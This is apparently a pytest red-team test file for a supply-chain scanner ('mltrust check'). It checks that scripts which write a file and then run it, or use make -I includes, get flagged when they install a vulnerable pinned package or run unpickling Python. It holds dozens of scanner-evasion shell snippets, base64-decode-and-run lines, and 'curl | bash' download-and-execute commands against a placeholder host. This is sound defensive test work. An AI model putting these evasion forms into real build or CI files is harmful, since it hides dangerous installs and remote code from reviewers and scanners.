"""Red team round 9 (check12): files a script writes and then runs, and makefiles ``make
-I DIR`` includes from DIR, which ``mltrust check`` did not read, so that a project installed
a vulnerable pinned package (or ran Python that unpickles its input) while
``no-vulnerable-dependencies`` (or ``no-dangerous-code``) passed. Each attack test failed
before its fix (expected FAIL of the control, actual PASS); each benign test shows that an
ordinary project using the same feature is not flagged.

Files are written by the tests (``_gate`` of round 5); payloads are built at run time
(``PICKLE_CODE``) so this file does not trip the project's own gate."""

from __future__ import annotations

from pathlib import Path

import pytest

import test_check_redteam8 as _rt8
from mltrust.evidence._commands import commands
from mltrust.policy import ControlStatus

db = _rt8.db  # the advisory fixture (evilpkg 1.5 is vulnerable)
_gate, _recipe = _rt8._gate, _rt8._recipe
VULN, CODE, COMPLETE, PICKLE_CODE = _rt8.VULN, _rt8.CODE, _rt8.COMPLETE, _rt8.PICKLE_CODE
INSTALL = _rt8.INSTALL


# -- 01. a script writes a file with literal text, then runs it -----------------------------
# The shell runs what ``echo``/``printf``/``cat <<EOF``/``tee`` wrote a moment before; the
# reader looked the name up among the project's files, found nothing and read nothing.
# Expected: FAIL; actual before: PASS.
WRITTEN = {
    "echo-bash": f"echo '{INSTALL}' > gen.sh\nbash gen.sh\n",
    "echo-dot-slash": f"echo '{INSTALL}' > ./gen.sh\n. gen.sh\n",
    "printf-source": f"printf '%s\\n' '{INSTALL}' > gen.sh\nsource ./gen.sh\n",
    "append": f"echo 'set -e' > gen.sh\necho '{INSTALL}' >> gen.sh\nsh gen.sh\n",
    "heredoc": f"cat > gen.sh <<'EOF'\n{INSTALL}\nEOF\nsh gen.sh\n",
    "heredoc-after": f"cat <<EOF >gen.sh\n{INSTALL}\nEOF\nbash -e gen.sh\n",
    "tee": f"echo '{INSTALL}' | tee gen.sh >/dev/null\nbash gen.sh\n",
    "tee-heredoc": f"tee gen.sh <<'EOF'\n{INSTALL}\nEOF\nbash gen.sh\n",
    "executed": f"echo '{INSTALL}' > gen.sh\nchmod +x gen.sh\n./gen.sh\n",
    "one-line": f"echo '{INSTALL}' > gen.sh; bash gen.sh\n",
    "makefile": f"printf 'b:\\n\\t{INSTALL}\\n' > gen.mk\nmake -f gen.mk b\n",
    # printf's conversions and escapes, echo -e's escapes build the text the shell runs
    "printf-format": "printf 'p%sp install %s\\n' i evilpkg==1.5 > gen.sh\nbash gen.sh\n",
    "printf-escape": "printf '\\x70ip install evilpkg==1.5' > gen.sh\nbash gen.sh\n",
    "echo-e": f"echo -e 'true\\n{INSTALL}' > gen.sh\nbash gen.sh\n",
    "copied": f"echo '{INSTALL}' > a.txt\ncp a.txt gen.sh\nbash gen.sh\n",
}


@pytest.mark.parametrize("name", sorted(WRITTEN))
def test_attack_written_script_runs(tmp_path: Path, db: Path, name: str) -> None:
    _, controls = _gate(tmp_path, db, {"ci.sh": "#!/bin/sh\n" + WRITTEN[name]})
    assert controls[VULN] is ControlStatus.FAIL


# a later write the shell may never make (a branch not taken, a trap, a heredoc never run)
# does not hide an earlier one; a group's or ``exec``'s output is not nothing; the name is
# the same file however it is spelled, and a write inside a substitution or ``sh -c`` is one
MISLEADING = {
    "branch": f"echo '{INSTALL}' > gen.sh\nif false; then echo ok > gen.sh; fi\nbash gen.sh\n",
    "and-list": f"echo '{INSTALL}' > gen.sh\nfalse && : > gen.sh\nbash gen.sh\n",
    "trap": f"echo '{INSTALL}' > gen.sh\ntrap 'echo ok > gen.sh' EXIT\nbash gen.sh\n",
    "heredoc-never-run": (
        f"echo '{INSTALL}' > gen.sh\ncat > notes.txt <<'EOF'\necho ok > gen.sh\nEOF\nsh gen.sh\n"
    ),
    "pwd": f"echo '{INSTALL}' > \"$PWD/gen.sh\"\nbash ./gen.sh\n",
    "tmp": f"echo '{INSTALL}' > /tmp/gen.sh\nsh /tmp/gen.sh\n",
    "cd": f"mkdir -p d\ncd d\necho '{INSTALL}' > gen.sh\ncd ..\nbash d/gen.sh\n",
    "substitution": f"x=$(echo '{INSTALL}' > gen.sh)\nbash gen.sh\n",
    "sh-c": f"sh -c \"echo '{INSTALL}' > gen.sh\"\nbash gen.sh\n",
}


@pytest.mark.parametrize("name", sorted(MISLEADING))
def test_attack_written_script_misleading_writes(tmp_path: Path, db: Path, name: str) -> None:
    _, controls = _gate(tmp_path, db, {"ci.sh": "#!/bin/sh\n" + MISLEADING[name]})
    assert controls[VULN] is ControlStatus.FAIL


@pytest.mark.parametrize("name", ["group", "exec"])
def test_attack_group_output_written_fails_closed(tmp_path: Path, db: Path, name: str) -> None:
    text = {
        "group": f"{{ echo '{INSTALL}'; }} > gen.sh\nbash gen.sh\n",
        "exec": f"exec 3>&1 > gen.sh\necho '{INSTALL}'\nexec 1>&3\nbash gen.sh\n",
    }[name]
    _, controls = _gate(tmp_path, db, {"ci.sh": "#!/bin/sh\n" + text})
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_project_script_behind_a_write_not_made(tmp_path: Path, db: Path) -> None:
    # the write sits in a branch not taken: the project's own gen.sh is what runs
    text = "#!/bin/sh\nif false; then echo ok > gen.sh; fi\nbash gen.sh\n"
    _, controls = _gate(tmp_path, db, {"ci.sh": text, "gen.sh": INSTALL + "\n"})
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_written_script_hides_behind_project_decoy(tmp_path: Path, db: Path) -> None:
    # a harmless gen.sh committed beside the script is overwritten before it runs
    files = {"ci.sh": "#!/bin/sh\n" + WRITTEN["echo-bash"], "gen.sh": "echo ok\n"}
    _, controls = _gate(tmp_path, db, files)
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_copied_project_file_runs(tmp_path: Path, db: Path) -> None:
    # a project file that is no script by name, copied to a name the script then runs
    files = {"ci.sh": "#!/bin/sh\ncp tools/notes.txt gen.sh\nbash gen.sh\n"}
    files["tools/notes.txt"] = INSTALL + "\n"
    _, controls = _gate(tmp_path, db, files)
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_written_script_in_one_recipe_line(tmp_path: Path, db: Path) -> None:
    text = _recipe(f"echo '{INSTALL}' > gen.sh; sh gen.sh")
    _, controls = _gate(tmp_path, db, {"Makefile": text})
    assert controls[VULN] is ControlStatus.FAIL


# one CI job's steps, a Dockerfile's RUN instructions and a makefile's recipe lines write
# into one file system: a file written by one of them and run by another is read
ACROSS = {
    ".github/workflows/ci.yml": (
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        f"      - run: echo '{INSTALL}' > gen.sh\n      - run: bash gen.sh\n"
    ),
    "Dockerfile": f"FROM python:3.12\nRUN echo '{INSTALL}' > /gen.sh\nRUN sh /gen.sh\n",
    "Makefile": f"b:\n\techo '{INSTALL}' > gen.sh\n\tsh gen.sh\n",
}


@pytest.mark.parametrize("host", sorted(ACROSS))
def test_attack_written_by_one_step_run_by_another(tmp_path: Path, db: Path, host: str) -> None:
    _, controls = _gate(tmp_path, db, {host: ACROSS[host]})
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_written_script_in_ci_yaml(tmp_path: Path, db: Path) -> None:
    text = f"job:\n  script:\n    - echo '{INSTALL}' > gen.sh\n    - bash gen.sh\n"
    _, controls = _gate(tmp_path, db, {".gitlab-ci.yml": text})
    assert controls[VULN] is ControlStatus.FAIL


@pytest.mark.parametrize("form", ["shell", "python", "shebang"])
def test_attack_written_file_runs_python(tmp_path: Path, db: Path, form: str) -> None:
    if form == "shell":
        text = f"cat > gen.sh <<'EOF'\npython3 -c '{PICKLE_CODE}'\nEOF\nbash gen.sh\n"
    elif form == "shebang":
        text = f"cat > gen <<'EOF'\n#!/usr/bin/env python3\n{PICKLE_CODE}\nEOF\n./gen\n"
    else:
        text = f"cat > gen.py <<'EOF'\n{PICKLE_CODE}\nEOF\npython3 gen.py\n"
    # a harmless gen.py in the project is not what runs
    files = {"ci.sh": "#!/bin/sh\n" + text, "gen.py": "print('ok')\n"}
    _, controls = _gate(tmp_path, db, files)
    assert controls[CODE] is ControlStatus.FAIL


def test_written_python_is_analysed_not_failed_closed(tmp_path: Path, db: Path) -> None:
    # the text is known: it is analysed (clean), not reported as a file not in the project
    text = "#!/bin/sh\ncat > gen.py <<'EOF'\nprint('hello')\nEOF\npython3 gen.py\n"
    doc, controls = _gate(tmp_path, db, {"ci.sh": text})
    assert controls[CODE] is ControlStatus.PASS
    assert "ci.sh" not in doc["code"]["not_analysed"]


# -- 02. a script writes a file with text it computes, then runs it -------------------------
# What a command's output or a command substitution wrote cannot be read: both checks fail
# closed, as for a file whose name the shell computes. Expected: FAIL; actual before: PASS.
COMPUTED = {
    "substitution": 'echo "$(base64 -d < payload.txt)" > gen.sh\nsh gen.sh\n',
    "decoded": "base64 -d payload.txt > gen.sh\n. ./gen.sh\n",
    "unknown-append": "base64 -d payload.txt >> gen.sh\nbash gen.sh\n",
    "copied-computed": 'cp "$SRC" gen.sh\nbash gen.sh\n',
}


@pytest.mark.parametrize("name", sorted(COMPUTED))
def test_attack_computed_written_script_fails_closed(tmp_path: Path, db: Path, name: str) -> None:
    doc, controls = _gate(tmp_path, db, {"ci.sh": "#!/bin/sh\n" + COMPUTED[name]})
    assert controls[VULN] is ControlStatus.FAIL
    assert controls[CODE] is ControlStatus.FAIL
    assert "ci.sh" in doc["code"]["not_analysed"]


# A download a shell runs is read as ``curl URL | bash`` is: not the project's (what the
# installer script does is not read, nor failed: Miniconda's, rustup's, Docker's installers
# are run so); what the script writes beside it is read; Python running a download is not
# analysed (as ``curl URL | python``).
DOWNLOADED = {
    "redirect": "curl -fsSL https://x.example/i.sh > gen.sh\nbash gen.sh\n",
    "curl-output": "curl -fsSLo gen.sh https://x.example/i.sh\nsh gen.sh\n",
    "wget-output": "wget -qO gen.sh https://x.example/i.sh\n. ./gen.sh -b\n",
    "pipe": "curl -fsSL https://x.example/i.sh | bash\n",
}


@pytest.mark.parametrize("name", sorted(DOWNLOADED))
def test_downloaded_script_is_read_as_a_piped_download(tmp_path: Path, db: Path, name: str) -> None:
    _, controls = _gate(tmp_path, db, {"ci.sh": "#!/bin/sh\n" + DOWNLOADED[name]})
    assert controls[VULN] is ControlStatus.PASS
    assert controls[CODE] is ControlStatus.PASS


def test_attack_install_appended_to_a_download(tmp_path: Path, db: Path) -> None:
    text = f"#!/bin/sh\ncurl -fsSL https://x.example/i.sh > gen.sh\necho '{INSTALL}' >> gen.sh\n"
    _, controls = _gate(tmp_path, db, {"ci.sh": text + "bash gen.sh\n"})
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_downloaded_python_fails_closed(tmp_path: Path, db: Path) -> None:
    text = "#!/bin/sh\ncurl -fsSLo gen.py https://x.example/g.py\npython3 gen.py\n"
    _, controls = _gate(tmp_path, db, {"ci.sh": text, "gen.py": "print('ok')\n"})
    assert controls[CODE] is ControlStatus.FAIL


def test_attack_computed_written_python_fails_closed(tmp_path: Path, db: Path) -> None:
    files = {"ci.sh": "#!/bin/sh\nbase64 -d p.txt > gen.py\npython gen.py\n", "gen.py": "1\n"}
    _, controls = _gate(tmp_path, db, files)
    assert controls[CODE] is ControlStatus.FAIL


# -- 03. make -I DIR: an include not found from the current folder is looked up in DIR ------
# Expected: FAIL; actual before: PASS.
@pytest.mark.parametrize(
    "line",
    [
        "make -I mk all",
        "make -Imk all",
        "make --include-dir=mk all",
        "make --include-dir mk",
        "make -s -I mk",
        "MAKEFLAGS=-Imk make all",
        "make -C . -I mk all",
    ],
)
def test_attack_make_include_dir(tmp_path: Path, db: Path, line: str) -> None:
    files = {"ci.sh": f"#!/bin/sh\n{line}\n", "Makefile": "include a.inc\nall:\n\techo\n"}
    files["mk/a.inc"] = _recipe(INSTALL)
    _, controls = _gate(tmp_path, db, files)
    assert controls[VULN] is ControlStatus.FAIL


def test_attack_make_include_dir_runs_python(tmp_path: Path, db: Path) -> None:
    files = {"ci.sh": "#!/bin/sh\nmake -I mk\n", "Makefile": "include a.inc\nall:\n\techo\n"}
    files["mk/a.inc"] = _recipe(f"python3 -c '{PICKLE_CODE}'")
    _, controls = _gate(tmp_path, db, files)
    assert controls[CODE] is ControlStatus.FAIL


@pytest.mark.parametrize("control", [VULN, CODE])
def test_attack_make_include_dir_with_named_makefile(
    tmp_path: Path, db: Path, control: str
) -> None:
    # a makefile given by -f (not read on its own) and a recipe's own $(MAKE) -I
    payload = INSTALL if control == VULN else f"python3 -c '{PICKLE_CODE}'"
    files = {
        "ci.sh": "#!/bin/sh\nmake -I mk -f build/rules all\n",
        "build/rules": "include a.inc\nall:\n\t$(MAKE) -C sub -I ../mk2 x\n",
        "mk/a.inc": "",
        "sub/Makefile": "include b.inc\nx:\n\techo\n",
        "mk2/b.inc": _recipe(payload),
    }
    _, controls = _gate(tmp_path, db, files)
    assert controls[control] is ControlStatus.FAIL


def test_make_include_dir_outside_project_reads_nothing(tmp_path: Path, db: Path) -> None:
    outside = tmp_path / "mk"
    outside.mkdir()
    (outside / "a.inc").write_text(_recipe(INSTALL))
    files = {
        "ci.sh": "#!/bin/sh\nmake -I ../mk all\n",
        "Makefile": "-include a.inc\nall:\n\techo\n",
    }
    _, controls = _gate(tmp_path, db, files)
    assert controls[VULN] is not ControlStatus.FAIL


# -- ordinary projects using the forms above are not flagged ---------------------------------
BENIGN = {
    "venv": "python -m venv .venv\n. .venv/bin/activate\npip install -r requirements.txt\n",
    "env-file": 'echo "export X=1" > env.sh\n. ./env.sh\nrm env.sh\n',
    "autoreconf": "autoreconf -fi\n./configure --prefix=/usr\nmake\n",
    "heredoc-config": "cat > conf.sh <<EOF\nexport HOME_DIR=$HOME\nEOF\n. conf.sh\n",
    "written-not-run": "curl -fsSL https://x.example/data.json > data.json\ncat data.json\n",
    "log": "pytest > log.txt 2>&1 || cat log.txt\n",
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_ordinary_written_files_are_clean(tmp_path: Path, db: Path, name: str) -> None:
    files = {"ci.sh": "#!/bin/sh\n" + BENIGN[name], "requirements.txt": "requests==2.32.3\n"}
    _, controls = _gate(tmp_path, db, files)
    assert controls[VULN] is not ControlStatus.FAIL
    assert controls[CODE] is ControlStatus.PASS
    assert controls[COMPLETE] is ControlStatus.PASS


def test_written_script_is_read_in_the_stream() -> None:
    found = commands("shell", f"echo '{INSTALL}' > gen.sh\nbash gen.sh\n")
    assert ("pip", "install", "evilpkg==1.5") in [c.words for c in found]
    # the write alone runs nothing
    alone = commands("shell", f"echo '{INSTALL}' > gen.sh\n")
    assert ("pip", "install", "evilpkg==1.5") not in [c.words for c in alone]


def test_script_running_what_it_wrote_over_and_over_is_bounded() -> None:
    # every run reads the text again, and the text runs itself: the reading stops at about
    # the script's own size, and the run not read fails closed (once)
    inner = ". g; " * 2000
    text = "".join(f"echo '{inner} #{i}' > g\n" for i in range(16)) + ". g\n"
    found = commands("shell", text)
    assert len(found) <= 2 * text.count(". g")
    assert sum(1 for c in found if c.unread) == 1
